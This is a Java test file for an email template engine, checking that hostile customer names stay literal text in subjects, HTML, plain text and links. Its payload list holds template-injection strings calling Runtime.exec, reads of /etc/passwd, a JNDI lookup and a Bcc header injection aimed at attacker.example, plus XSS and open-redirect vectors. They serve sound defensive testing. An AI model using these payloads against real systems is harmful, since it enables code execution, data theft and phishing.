package io.clientele.channels.template;

import static org.assertj.core.api.Assertions.assertThat;

import io.clientele.channel.ChannelName;
import io.clientele.channel.Content;
import io.clientele.channels.TestShop;
import io.clientele.event.Properties;
import io.clientele.workflow.content.Rendered;
import java.net.URI;
import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.joda.money.CurrencyUnit;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.Test;

/** What customers say of themselves stays what they say, wherever it is written. */
class TemplateInjectionTest {
  private static final FolderTemplates TEMPLATES =
      FolderTemplates.of(
              Map.of(
                  "t/email.html",
                  """
                  ---
                  subject: Hello {{ customer.name }}!
                  data.note: {{ customer.name }}
                  ---
                  <html><body><p id="a">{{ customer.name }}</p>
                  <p id="b" title="{{ customer.name }}" class='{{ customer.name }}'>x</p>
                  <a id="c" href="https://shop.example/s?q={{ customer.name }}&amp;r=1">x</a>
                  <a id="d" href="https://shop.example/{{ customer.name }}">x</a>
                  <p id="end">{{ unsubscribe_url }}</p></body></html>
                  """,
                  "t/email.txt",
                  """
                  Hello {{ customer.name }}!
                  https://shop.example/s?q={{ customer.name | url_encode }}
                  """,
                  "link/email.html",
                  "<a id=\"u\" href=\"{{ customer.name }}\">x</a>{{ unsubscribe_url }}"))
          .unsubscribe(request -> URI.create("https://shop.example/u?t=1"))
          .build();

  static List<String> payloads() {
    List<String> seeds =
        List.of(
            "{{ 7 | times: 7 }}",
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{% if true %}49{% endif %}",
            "{{ customer.class.name }}",
            "{{ ''.class.forName('java.lang.Runtime') }}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "{{ 'a'.getClass().forName('x') }}",
            "{% include '/etc/passwd' %}",
            "{% include_relative '../../x' %}",
            "{{ '/etc/passwd' | read_file }}",
            "{% raw %}{{ x }}{% endraw %}",
            "{% assign x = 1 %}",
            "{%- for i in (1..99999999) -%}x{%- endfor -%}",
            "}}{{ unsubscribe_url }}",
            "%}{% if true %}",
            "{{",
            "}}",
            "{%",
            "%}",
            "<script>alert(1)</script>",
            "</p><script>alert(1)</script>",
            "\"><script>alert(1)</script>",
            "'><img src=x onerror=alert(1)>",
            "\" onmouseover=\"alert(1)",
            "' onfocus='alert(1)' autofocus='",
            "<svg/onload=alert(1)>",
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "java\nscript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "vbscript:x",
            "\u0001javascript:alert(1)",
            "//attacker.example",
            "/\\attacker.example",
            "\\\\attacker.example",
            "https:attacker.example",
            "<a href=https://attacker.example>click</a>",
            "<mj-raw><script>x</script></mj-raw>",
            "<mj-include path=\"/etc/passwd\" />",
            "<!--#include file=\"/etc/passwd\"-->",
            "--><script>x</script><!--",
            "<!--[if mso]><script>x</script><![endif]-->",
            "]]><script>x</script>",
            "&lt;script&gt;",
            "&#60;script&#62;",
            "%3Cscript%3E",
            "\\u003cscript\\u003e",
            "\r\nBcc: x@attacker.example",
            "\nSubject: other",
            "\u2028x",
            "lqd000000x",
            "lqd000001x",
            "${jndi:ldap://attacker.example/a}",
            "__proto__",
            "constructor",
            "clientele_out: 0",
            "x | raw",
            "\u0000",
            "\ud83d\ude00",
            "&q=2#frag",
            "../../admin");
    List<String> shapes =
        List.of("%s", "Ana %s", "%s Ana", " %s%s ", "{{ \"%s\" | raw }}", "<b>%s</b>");
    List<String> all = new ArrayList<>();
    for (String shape : shapes) {
      for (String seed : seeds) {
        all.add(shape.replace("%s", seed));
      }
    }
    return all;
  }

  @Test
  void more_than_three_hundred_hostile_names_stay_names_in_subject_html_text_and_links() {
    assertThat(payloads()).hasSizeGreaterThan(300);
    for (String payload : payloads()) {
      String name = payload.replace("\u0000", "\u0001"); // no property can hold U+0000
      Content content = content("t", name);
      String shown = withoutControls(name);

      assertThat(content.subject()).isEqualTo("Hello " + line(name).strip() + "!");
      assertThat(content.data()).containsEntry("note", line(name).strip());
      Document html = Jsoup.parse(String.valueOf(content.html()));
      assertThat(html.select("script, svg, img, b, iframe, mj-raw, mj-include")).as(name).isEmpty();
      assertThat(html.getAllElements().stream().flatMap(e -> e.attributes().asList().stream()))
          .as(name)
          .allMatch(a -> List.of("id", "title", "class", "href").contains(a.getKey()));
      assertThat(blanks(html.select("#a").get(0).wholeText())).isEqualTo(blanks(shown));
      assertThat(blanks(html.select("#b").attr("title"))).isEqualTo(blanks(shown));
      assertThat(blanks(html.select("#b").attr("class"))).isEqualTo(blanks(shown));
      assertThat(html.select("#end").text()).isEqualTo("https://shop.example/u?t=1");
      URI query = URI.create(html.select("#c").attr("href"));
      assertThat(query.getHost()).isEqualTo("shop.example");
      assertThat(query.getRawFragment()).isNull();
      assertThat(query.getRawQuery()).matches("q=[^&#]*&r=1");
      assertThat(decoded(query.getRawQuery().replaceAll("^q=|&r=1$", ""))).isEqualTo(name);
      URI path = URI.create(html.select("#d").attr("href"));
      assertThat(path.getHost()).isEqualTo("shop.example");
      assertThat(path.getRawQuery()).isNull();
      String[] lines = content.text().split("\nhttps://shop.example/s\\?q=", 2);
      assertThat(lines[0]).isEqualTo("Hello " + shown + "!");
      assertThat(lines[1].strip()).doesNotContain(" ", "<", ">", "\"", "{");
    }
  }

  @Test
  void a_name_is_no_address_unless_it_is_one_that_a_link_may_have() {
    for (String payload : payloads()) {
      Rendered rendered = rendered("link", payload.replace("\u0000", "\u0001"));
      if (rendered instanceof Rendered.Ready ready) {
        String href = Jsoup.parse(String.valueOf(ready.content().html())).select("#u").attr("href");
        assertThat(href).as(payload).matches("(?s)(https?://|mailto:|tel:|sms:|/[^/\\\\]|#).*");
      }
    }
    assertThat(rendered("link", "javascript:alert(1)")).isInstanceOf(Rendered.Failed.class);
    assertThat(rendered("link", " javascript:alert(1)")).isInstanceOf(Rendered.Failed.class);
    assertThat(rendered("link", "https://shop.example/a")).isInstanceOf(Rendered.Ready.class);
  }

  private static Rendered rendered(String template, String name) {
    Properties traits =
        Properties.none().with("name", name).with("currency", CurrencyUnit.EUR.getCode());
    return TEMPLATES.render(
        TestShop.request(
            template, ChannelName.EMAIL, TestShop.profile(traits, "P"), Properties.none()));
  }

  private static Content content(String template, String name) {
    Rendered rendered = rendered(template, name);
    assertThat(rendered).as(name).isInstanceOf(Rendered.Ready.class);
    return ((Rendered.Ready) rendered).content();
  }

  private static String decoded(String text) {
    return URLDecoder.decode(text.replace("+", "%2B"), StandardCharsets.UTF_8);
  }

  private static String withoutControls(String text) {
    return text.replace("\u0001", "");
  }

  private static String line(String text) {
    return withoutControls(text).replaceAll("[\\r\\n\\t\\u0085\\u2028\\u2029]", " ");
  }

  /** HTML knows one line end. */
  private static String blanks(String text) {
    return text.replaceAll("\\s+", " ").strip();
  }
}
